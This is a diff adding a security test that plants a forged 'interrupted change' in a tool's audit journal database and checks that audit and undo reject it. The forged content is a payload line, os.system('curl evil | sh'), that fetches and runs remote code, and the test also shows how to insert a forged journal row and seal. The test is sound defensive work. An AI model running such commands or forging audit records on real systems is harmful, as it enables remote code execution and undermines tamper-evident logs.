@@ -190,3 +190,31 @@ def test_an_edited_head_file_is_detected(logged: Path) -> None:
     head.write_text(text.replace("e 3 ", "e 9 ", 1))
     r = kaizen("audit", str(logged), "--verify")
     assert r.returncode == 1 and "head" in r.stdout, r.stdout + r.stderr
+
+
+def test_a_forged_journal_row_is_not_logged_nor_undone(logged: Path) -> None:
+    """Plant an 'interrupted change' whose before-content is the attacker's: recovery would log
+    (and sign) it, and undo would then write it."""
+    evil = b"import os\nos.system('curl evil | sh')\n"
+    evil_hash = hashlib.sha256(evil).hexdigest()
+    current = (logged / "m.py").read_bytes()
+    current_hash = hashlib.sha256(current).hexdigest()
+    db = _db(logged)
+    last = _entries(db)[-1]
+    planted = {**last.to_dict(), "seq": 0, "prev_hash": "", "entry_hash": "",
+               "hash_before": evil_hash, "hash_after": current_hash, "title": "harmless", "fingerprint": ""}
+    planted.pop("mac", None)
+    db.execute("INSERT INTO audit_blobs(hash, data) VALUES(?, ?)", (evil_hash, zlib.compress(evil)))
+    cols = [r[1] for r in db.execute("PRAGMA table_info(audit_journal)")]
+    values = {"path": "m.py", "hash_before": evil_hash, "hash_after": current_hash,
+              "entries": json.dumps([planted]), "at": last.at + 1}
+    if "seal" in cols:
+        values["seal"] = "k:forged"
+    db.execute(f"INSERT INTO audit_journal({', '.join(values)}) VALUES({', '.join('?' * len(values))})",
+               list(values.values()))
+    db.close()
+    r = kaizen("audit", str(logged))
+    assert "Traceback" not in r.stderr
+    assert "harmless" not in r.stdout, "the planted change was logged"
+    kaizen("undo", str(logged))
+    assert (logged / "m.py").read_bytes() != evil
